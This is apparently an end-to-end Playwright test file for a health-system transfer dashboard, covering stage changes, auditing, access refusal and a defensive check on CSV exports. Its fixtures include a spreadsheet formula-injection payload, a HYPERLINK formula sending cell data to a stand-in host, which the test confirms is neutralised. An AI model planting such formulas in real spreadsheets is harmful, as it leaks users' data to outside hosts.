import ExcelJS from 'exceljs';
import { createHash } from 'node:crypto';
import { mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Browser, BrowserContext, chromium, Page } from 'playwright-core';
import { RunningService, ServiceStack, waitFor, waitForJob } from '@imb/testing';

/**
 * The dashboard in real headless Chromium (Debian's package, driven by playwright-core), against
 * real gateway, transfer, hr and procurement processes on Kafka, PostgreSQL and Redis.
 *
 * Hidalgo operates under IMSS-BIENESTAR since 2023 (the real joining history), so its gates are all
 * closed. To have a gate to close, the federal coordinator first suspends its transfer and
 * restarts it at DIAGNOSIS through the API, and closes three of the four DIAGNOSIS items; the
 * state coordinator of Hidalgo then closes the fourth in the browser with an uploaded document,
 * advances to AGREEMENT, and the national map and table (open in another tab) show it within 1 s.
 *
 * A real procurement process imports (dry run) an annex whose institution titles and values a
 * spreadsheet would run as formulas; its row errors, saved as CSV from the jobs centre, keep them text.
 */
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const ARTIFACTS = join(__dirname, 'artifacts');
const HIDALGO = '13';
const LAST_ITEM = 'equipment-inventory';
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
/** The dashboard's procurement officer (button[data-identity="procurement"]). */
const PROCUREMENT_OFFICER = 'carlos.compras';
const EXERCISE = '2031-2032';
const HYPERLINK = '=HYPERLINK("https://exfiltra.example/?d="&A1,"Ver")';

/**
 * A demand annex (titles in row 3, CLAVE/DESCRIPCIÓN/MIN/MAX in row 4, data from row 5) with three
 * institutions titled as formulas. Row 5 is good; each of rows 6-9 is refused with one row error:
 * a word as the first institution's MIN, a negative MAX of the second, MIN > MAX in the third, and
 * no description.
 */
async function formulaAnnex(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Anexo');
  ws.getRow(3).values = [null, null, HYPERLINK, null, '@SUM(1)', null, '+1'];
  ws.getRow(4).values = ['CLAVE', 'DESCRIPCIÓN', 'MIN', 'MAX', 'MIN', 'MAX', 'MIN', 'MAX'];
  ws.addRow(['010.000.0101.00', 'PARACETAMOL 500 MG TABLETA', 10, 20, 1, 2, 3, 4]);
  ws.addRow(['010.000.0102.00', 'IBUPROFENO 400 MG TABLETA', 'muchos', 20, 1, 2, 3, 4]);
  ws.addRow(['010.000.0103.00', 'NAPROXENO 250 MG TABLETA', 1, 2, 3, -2, 3, 4]);
  ws.addRow(['010.000.0104.00', 'OMEPRAZOL 20 MG CAPSULA', 1, 2, 3, 4, 5, 3]);
  ws.addRow(['010.000.0105.00', '', 1, 2, 3, 4, 3, 4]);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

describe('dashboard (headless Chromium)', () => {
  const stack = new ServiceStack('e2e_dash');
  let gateway: RunningService;
  let browser: Browser;
  const contexts: BrowserContext[] = [];

  async function api(method: string, path: string, token: string, body?: unknown) {
    const res = await fetch(`${gateway.url}/api${path}`, {
      method,
      headers: { authorization: `Bearer ${token}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    return { status: res.status, body: (await res.json()) as any };
  }

  async function devToken(sub: string, roles: string[], states: string[] = []): Promise<string> {
    const res = await fetch(`${gateway.url}/api/auth/dev-token`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ sub, roles, states }),
    });
    return ((await res.json()) as { accessToken: string }).accessToken;
  }

  /** A fresh browser session logged in through the dashboard's picker as the demo identity `key`. */
  async function loginAs(key: string): Promise<Page> {
    const context = await browser.newContext({ viewport: { width: 1400, height: 1000 }, locale: 'es-MX' });
    contexts.push(context);
    const page = await context.newPage();
    await page.goto(`${gateway.url}/`);
    await page.click(`button[data-identity="${key}"]`);
    await page.waitForSelector('.mexico-map path[data-state="13"]');
    return page;
  }

  const shot = (page: Page, name: string) => page.screenshot({ path: join(ARTIFACTS, `dashboard-${name}.png`), fullPage: true });

  beforeAll(async () => {
    await mkdir(ARTIFACTS, { recursive: true });
    const [transfer, hr, procurement] = await Promise.all([stack.start('transfer'), stack.start('hr'), stack.start('procurement')]);
    gateway = await stack.start('gateway', { TRANSFER_URL: transfer.url, HR_URL: hr.url, PROCUREMENT_URL: procurement.url });
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
  });

  afterAll(async () => {
    for (const context of contexts) await context.close().catch(() => undefined);
    await browser?.close();
    await stack.stop();
  });

  it('lets Hidalgo close its gate with a document and advance, shows it nationally within 1 s, audits it, and keeps Jalisco out', async () => {
    // Setup through the API: Hidalgo restarts at DIAGNOSIS with one item left open.
    const federal = await devToken('fernanda.federal', ['federal-coordinator']);
    await waitFor(async () => (await api('GET', '/overview', federal)).body.states?.find((s: any) => s.stateCode === HIDALGO)?.stage === 'OPERATION', {
      timeoutMs: 60000,
      what: 'the gateway overview to know the joining history',
    });
    expect((await api('POST', `/transfers/${HIDALGO}/advance`, federal, { toStage: 'SUSPENDED', reason: 'Prueba e2e: reinicio del tablero' })).status).toBe(200);
    expect((await api('POST', `/transfers/${HIDALGO}/advance`, federal, { toStage: 'DIAGNOSIS', reason: 'Prueba e2e: reinicio del tablero' })).status).toBe(200);
    for (const itemId of ['transition-tables', 'units-inventory', 'staff-inventory']) {
      const closed = await api('POST', `/transfers/${HIDALGO}/checklist/${itemId}`, federal, { evidence: { reference: `HGO/${itemId}`, date: '2026-11-02' } });
      expect(closed.status).toBe(200);
    }

    // The state coordinator of Hidalgo; a second tab keeps the national view open.
    const hidalgo = await loginAs('state13');
    const national = await hidalgo.context().newPage();
    await national.goto(`${gateway.url}/#/`);
    await national.waitForSelector(`.mexico-map path[data-state="${HIDALGO}"][data-stage="DIAGNOSIS"]`, { timeout: 30000 });
    await national.waitForSelector('.live[data-live="on"]');
    await shot(national, '1-national-before');

    await hidalgo.click(`tr[data-state="${HIDALGO}"] a`);
    await hidalgo.waitForSelector(`button.close-item[data-item="${LAST_ITEM}"]`);
    // Spanish by default, gate item titles included (the API gives them in English).
    expect(await hidalgo.locator(`li[data-item="${LAST_ITEM}"] strong`).textContent()).toBe('Inventario de equipo');
    await hidalgo.click(`button.close-item[data-item="${LAST_ITEM}"]`);
    const form = hidalgo.locator(`form.close-form[data-item="${LAST_ITEM}"]`);
    await form.locator('input[name="reference"]').fill('Oficio SSH/DG/0457/2026');
    await form.locator('input[name="date"]').fill('2026-11-20');
    await form.locator('input[name="file"]').setInputFiles({ name: 'inventario-equipo.pdf', mimeType: 'application/pdf', buffer: PDF });
    await shot(hidalgo, '2-close-item-form');
    await form.locator('button[type="submit"]').click();
    await hidalgo.waitForSelector(`li[data-item="${LAST_ITEM}"][data-done="true"]`);
    const item = (await api('GET', `/transfers/${HIDALGO}`, federal)).body.checklist.find((i: any) => i.id === LAST_ITEM);
    expect(item).toMatchObject({
      done: true,
      doneBy: 'hilda.hidalgo',
      evidence: { reference: 'Oficio SSH/DG/0457/2026', date: '2026-11-20', documentSha256: createHash('sha256').update(PDF).digest('hex') },
    });

    // Advance; the other tab's map and table follow within 1 s of the answer.
    const advanced = hidalgo.waitForResponse((r) => r.url().endsWith(`/api/transfers/${HIDALGO}/advance`) && r.request().method() === 'POST');
    await hidalgo.click('[data-testid="advance"]');
    expect((await advanced).status()).toBe(200);
    const answeredAt = Date.now();
    await national.waitForSelector(`.mexico-map path[data-state="${HIDALGO}"][data-stage="AGREEMENT"]`, { timeout: 1000 });
    await national.waitForSelector(`.overview-table tr[data-state="${HIDALGO}"][data-stage="AGREEMENT"]`, { timeout: Math.max(1, 1000 - (Date.now() - answeredAt)) });
    console.log(`dashboard: Hidalgo's stage change visible on the national map and table ${Date.now() - answeredAt} ms after the API answered`);
    await hidalgo.waitForSelector('[data-testid="stage"]:has-text("Convenio")');
    await shot(hidalgo, '3-state-advanced');
    await shot(national, '4-national-after');

    // The auditor finds the change in the audit explorer and verifies transfer's chain.
    const auditor = await loginAs('auditor');
    await auditor.click('nav a[href="#/audit"]');
    await auditor.selectOption('select[name="service"]', 'transfer');
    await auditor.fill('input[name="entity"]', 'StateTransfer');
    await auditor.fill('input[name="entityId"]', HIDALGO);
    await auditor.fill('input[name="actor"]', 'hilda.hidalgo');
    await auditor.click('form.filters button[type="submit"]');
    await auditor.waitForFunction(() => document.querySelectorAll('.audit-table tbody tr').length === 1);
    const found = auditor.locator('.audit-table tbody tr');
    expect(await found.getAttribute('data-action')).toBe('transfer.stage-changed');
    expect(await found.getAttribute('data-entity-id')).toBe(HIDALGO);
    await auditor.click('button[data-verify="transfer"]');
    await auditor.waitForSelector('li[data-verify="transfer"][data-valid="true"]');
    await shot(auditor, '5-audit-explorer');

    // Jalisco's coordinator sees Hidalgo read-only, and the API refuses her.
    const jalisco = await loginAs('state14');
    await jalisco.goto(`${gateway.url}/#/states/${HIDALGO}`);
    await jalisco.waitForSelector('[data-testid="read-only"]');
    await jalisco.waitForSelector('[data-testid="gate"] li[data-item]');
    expect(await jalisco.locator('button.close-item, [data-testid="advance"], details.move-back, form').count()).toBe(0);
    await shot(jalisco, '6-jalisco-reads-hidalgo');
    const refused = await jalisco.evaluate(async (state) => {
      const { token } = JSON.parse(localStorage.getItem('imb.session') ?? '{}') as { token: string };
      const res = await fetch(`/api/transfers/${state}/advance`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ toStage: 'PUBLICATION' }),
      });
      return { status: res.status, body: (await res.json()) as { message: string } };
    }, HIDALGO);
    expect(refused.status).toBe(403);
    expect(refused.body.message).toMatch(/state 13/);
    expect((await api('GET', `/transfers/${HIDALGO}`, federal)).body.stage).toBe('AGREEMENT');
  });

  it('saves the row errors of a job as a CSV whose cells no spreadsheet runs as formulas', async () => {
    // A real demand import (a dry run) through the gateway: procurement names a quantity's row
    // error after the annex's institution title ("<title> MIN"), and quotes the bad value, so an
    // uploaded annex decides how the cells of the saved CSV begin.
    const officer = await devToken(PROCUREMENT_OFFICER, ['procurement-officer']);
    const created = await api('POST', '/procurement/exercises', officer, { code: EXERCISE, name: 'Anexo con fórmulas en sus títulos' });
    expect(created.status).toBe(201);
    const form = new FormData();
    form.append('file', new Blob([await formulaAnnex()]), 'anexo-formulas.xlsx');
    const uploaded = await fetch(`${gateway.url}/api/procurement/exercises/${EXERCISE}/demand/imports?dryRun=true`, {
      method: 'POST',
      headers: { authorization: `Bearer ${officer}` },
      body: form,
    });
    expect(uploaded.status).toBe(202);
    const { jobId } = (await uploaded.json()) as { jobId: string };
    const job = await waitForJob<any>(gateway, jobId, officer, 60000);
    expect([job.status, job.failureReason ?? null, job.kind, job.createdBy, job.errorCount]).toEqual(['completed', null, 'procurement.demand-import', PROCUREMENT_OFFICER, 4]);
    expect(job.result).toMatchObject({ dryRun: true, rows: 5, refusedRows: 4, claves: 1, institutions: 3 });
    expect(job.result.layout.institutions.map((i: any) => i.name)).toEqual([HYPERLINK, '@SUM(1)', '+1']);

    // The procurement officer saves them from the jobs centre.
    const page = await loginAs('procurement');
    await page.goto(`${gateway.url}/#/jobs`);
    const row = page.locator(`tr[data-job="${jobId}"]`);
    await row.locator('td[data-col="errors"] button.link').waitFor();
    expect(await row.locator('td[data-col="errors"]').textContent()).toMatch(/^4\s/);
    const download = page.waitForEvent('download');
    await row.locator('td[data-col="errors"] button.link').click();
    const saved = await download;
    expect(saved.suggestedFilename()).toBe(`${jobId}-errors.csv`);
    expect((await readFile(await saved.path(), 'utf8')).split('\r\n')).toEqual([
      'row,field,message',
      `6,"'=HYPERLINK(""https://exfiltra.example/?d=""&A1,""Ver"") MIN","""muchos"" is not a whole number of pieces (digits with optional thousands separators)"`,
      `7,"'@SUM(1) MAX","'-2 is negative"`,
      `8,"'+1 MIN",MIN 5 is greater than MAX 3`,
      '9,DESCRIPCIÓN,the description is missing',
      '',
    ]);
    await shot(page, '7-jobs-errors-csv');
  });
});
